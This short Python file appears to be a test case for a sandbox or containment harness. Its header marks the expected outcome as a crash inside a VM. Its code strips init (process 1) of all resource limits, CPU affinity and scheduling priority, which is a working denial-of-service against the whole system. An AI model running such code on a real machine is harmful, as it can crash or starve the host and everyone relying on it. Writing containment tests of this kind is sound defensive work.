#: act: take process 1 its limits, its processors and its priority
#: status: completed crashed
#: within: 5
#: vm: yes
import os
import resource

for name in dir(resource):
    if name.startswith("RLIMIT_"):
        try:
            resource.prlimit(1, getattr(resource, name), (0, 0))
            print("prlimit took", name)
        except (OSError, ValueError):
            pass
for act in (lambda: os.setpriority(os.PRIO_PROCESS, 1, 19), lambda: os.sched_setaffinity(1, {max(os.sched_getaffinity(1))}),
            lambda: os.sched_setscheduler(1, os.SCHED_IDLE, os.sched_param(0))):
    try:
        act()
    except OSError:
        pass
print("contained: process 1 is its own to lose")
